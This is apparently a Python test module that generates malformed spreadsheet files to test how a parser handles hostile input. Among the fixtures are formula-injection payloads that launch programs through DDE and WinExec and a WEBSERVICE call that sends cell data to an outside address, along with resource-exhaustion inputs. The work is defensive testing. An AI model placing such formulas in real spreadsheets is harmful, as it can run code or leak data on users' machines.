"""Sheets whose cells, rows and merged areas stand where none may, or whose values and indexes are none."""

import re
import struct
from pathlib import Path

from tests.workbooks.hostile.containers import ROWS, biff8, ole, record, xlsb, xlsb_sheet
from tests.workbooks.hostile.xlsx import DATA, HEAD, PARTS, SHEET, SPACE, SST, TEXTS, book, sheet, texts, with_data


def far_cell(path: Path) -> None:
    with_data(path, DATA + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')


def far_cell_in_single_quotes(path: Path) -> None:
    with_data(path, DATA + "<row r='1048576'><c r='XFD1048576'><v>1</v></c></row>")


def far_cell_out_of_order(path: Path) -> None:
    with_data(path, '<row r="900000"><c s="1" t="n" r="ZZ900000"><v>1</v></c></row>' + DATA)


def far_cell_without_its_place(path: Path) -> None:
    with_data(path, DATA + '<row r="1048000"><c><v>7</v></c></row>')


def far_cell_of_an_xls(path: Path) -> None:
    stream = biff8(ROWS)
    far = record(0x0203, struct.pack("<HHHd", 65_535, 255, 0, 1.0))
    path.write_bytes(ole({"Workbook": stream.removesuffix(record(0x000A)) + far + record(0x000A)}))


def far_cell_of_an_xlsb(path: Path) -> None:
    xlsb(path, xlsb_sheet(ROWS, far=True))


def far_cell_of_an_xlsb_that_lies(path: Path) -> None:
    """It says to span three rows."""
    sheet_ = xlsb_sheet(ROWS, far=True)
    xlsb(path, sheet_.replace(struct.pack("<IIII", 0, 1_048_575, 0, 16_383), struct.pack("<IIII", 0, 2, 0, 2)))


def column_xfe(path: Path) -> None:
    with_data(path, DATA + '<row r="4"><c r="XFE4"><v>1</v></c></row>')


def column_zzz(path: Path) -> None:
    with_data(path, DATA + '<row r="4"><c r="ZZZZZZ4"><v>1</v></c></row>')


def row_zero(path: Path) -> None:
    with_data(path, '<row r="0"><c r="A0"><v>1</v></c></row>' + DATA)


def row_below_the_last(path: Path) -> None:
    with_data(path, DATA + '<row r="1048577"><c r="A1048577"><v>1</v></c></row>')


def row_of_many_digits(path: Path) -> None:
    with_data(path, DATA + f'<row r="{"9" * 30}"><c r="A{"9" * 30}"><v>1</v></c></row>')


def negative_row(path: Path) -> None:
    with_data(path, DATA + '<row r="-4"><c r="A-4"><v>1</v></c></row>')


def columns_beyond_the_last(path: Path) -> None:
    with_data(path, f'{DATA}<row r="4">{"<c><v>1</v></c>" * 16_385}</row>')


def cells_without_their_places(path: Path) -> None:
    with_data(path, re.sub(r' r="[A-Z]*\d+"', "", DATA))


def attributes_in_single_quotes(path: Path) -> None:
    book(path, {SHEET: sheet().replace('"', "'")})


def rows_out_of_order(path: Path) -> None:
    rows = DATA.replace("</row>", "</row>\n").split("\n")
    with_data(path, rows[2] + rows[0] + rows[1])


def row_twice(path: Path) -> None:
    with_data(
        path, DATA + '<row r="3"><c r="A3" t="s"><v>4</v></c><c r="B3"><v>10</v></c><c r="C3"><v>20</v></c></row>'
    )


def cell_twice(path: Path) -> None:
    with_data(path, DATA.replace('<c r="B3">', '<c r="B3"><v>10</v></c><c r="B3">'))


def row_twice_with_other_figures(path: Path) -> None:
    with_data(
        path, DATA + '<row r="3"><c r="A3" t="s"><v>4</v></c><c r="B3"><v>11</v></c><c r="C3"><v>20</v></c></row>'
    )


def cell_twice_with_another_figure(path: Path) -> None:
    with_data(path, DATA.replace('<c r="B3">', '<c r="B3"><v>11</v></c><c r="B3">'))


def merge_of_the_whole_sheet(path: Path) -> None:
    with_data(path, DATA, after='<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>')


def merge_of_whole_columns(path: Path) -> None:
    with_data(path, DATA, after='<mergeCells count="1"><mergeCell ref="E1:XFD1048576"/></mergeCells>')


def merges_without_end(path: Path) -> None:
    merges = "".join(f'<mergeCell ref="E{n}:F{n}"/>' for n in range(1, 60_001))
    with_data(path, DATA, after=f'<mergeCells count="60000">{merges}</mergeCells>')


def merge_below_the_last_row(path: Path) -> None:
    with_data(path, DATA, after=f'<mergeCells count="1"><mergeCell ref="E1:F{"9" * 25}"/></mergeCells>')


def numbers_of_the_view_that_are_none(path: Path) -> None:
    """How many rows are frozen, which columns are how wide: infinite, no number, beyond what fits into eight bytes."""
    views = '<sheetViews><sheetView workbookViewId="0"><pane xSplit="1e300" ySplit="1e400" state="frozen"/></sheetView></sheetViews>'
    columns = '<cols><col min="1" max="1" width="1e400"/><col min="2" max="1e400" width="-9"/><col min="3" max="3" width="NaN"/></cols>'
    with_data(path, DATA, before=views + columns)


def merge_of_nothing(path: Path) -> None:
    with_data(path, DATA, after='<mergeCells count="1"><mergeCell ref="#REF!"/></mergeCells>')


def million_styled_empty_rows(path: Path) -> None:
    rows = "".join(f'<row r="{n}" s="1" customFormat="1"/>' for n in range(4, 1_000_001))
    with_data(path, DATA + rows)


def million_styled_empty_cells(path: Path) -> None:
    letters = [chr(65 + n) for n in range(26)] + [f"A{chr(65 + n)}" for n in range(24)]
    rows = (f'<row r="{n}">{"".join(f"""<c r="{c}{n}" s="1"/>""" for c in letters)}</row>' for n in range(4, 20_001))
    with_data(path, DATA + "".join(rows))


def sheet_without_data(path: Path) -> None:
    book(path, {SHEET: f'{HEAD}<worksheet xmlns="{SPACE}"><sheetViews/></worksheet>'})


def sheet_that_is_no_sheet(path: Path) -> None:
    book(path, {SHEET: f"{HEAD}<html><body>Volumes</body></html>"})


def sheet_cut_in_a_cell(path: Path) -> None:
    book(path, {SHEET: sheet()[:-120]})


def deep_elements(path: Path) -> None:
    with_data(path, DATA, after="<extLst>" + "<ext>" * 100_000 + "</ext>" * 100_000 + "</extLst>")


def text_out_of_range(path: Path) -> None:
    with_data(path, DATA.replace("<v>3</v>", "<v>99</v>"))


def text_of_a_negative_number(path: Path) -> None:
    with_data(path, DATA.replace("<v>3</v>", "<v>-3</v>"))


def text_that_is_no_number(path: Path) -> None:
    with_data(path, DATA.replace("<v>3</v>", "<v>three</v>"))


def style_out_of_range(path: Path) -> None:
    with_data(path, DATA.replace('<c r="B2">', '<c r="B2" s="4000000000">'))


def style_of_a_negative_number(path: Path) -> None:
    with_data(path, DATA.replace('<c r="B2">', '<c r="B2" s="-1">'))


def numbers_that_are_none(path: Path) -> None:
    row = '<row r="4"><c r="A4" t="inlineStr"><is><t>Moves</t></is></c><c r="B4"><v>NaN</v></c><c r="C4"><v>1e400</v></c></row>'
    with_data(path, DATA + row)


def dates_out_of_range(path: Path) -> None:
    row = (
        '<row r="4"><c r="A4" t="inlineStr"><is><t>Moves</t></is></c><c r="B4" s="1"><v>1e9</v></c>'
        '<c r="C4" s="1"><v>-5</v></c></row>'
    )
    with_data(path, DATA + row)


def formulas_that_start_a_program(path: Path) -> None:
    cells = [
        "cmd|' /C calc'!A0", 'WEBSERVICE("http://192.0.2.1/"&amp;A2)', 'HYPERLINK("http://192.0.2.1/","Invoices")',
        'DDE("cmd";"/C calc";"")', 'CALL("kernel32","WinExec","JCJ","calc",0)',
    ]  # fmt: skip
    row = "".join(f'<c r="{"DEFGH"[n]}3" t="str"><f>{cell}</f><v>x</v></c>' for n, cell in enumerate(cells))
    with_data(path, DATA.removesuffix("</row>") + row + "</row>")


def texts_that_look_like_formulas(path: Path) -> None:
    book(path, {SST: texts([*TEXTS[:3], "=cmd|' /C calc'!A0", "@Invoices"])})


def invalid_utf_8(path: Path) -> None:
    book(path, {SST: texts().encode().replace(b"Invoices", b"Inv\xff\xfeoices")})


def parts_in_utf_16(path: Path) -> None:
    book(path, {p: PARTS[p].replace("UTF-8", "UTF-16").encode("utf-16") for p in (SHEET, SST)})


def unknown_encoding(path: Path) -> None:
    """And a text that is not there, so that no reader is content."""
    data = DATA.replace("<v>3</v>", "<v>99</v>")
    book(path, {SST: texts().replace("UTF-8", "EBCDIC-9"), SHEET: sheet(data)})


def control_characters(path: Path) -> None:
    book(path, {SST: texts().replace("Invoices", "Inv\x01oices")})
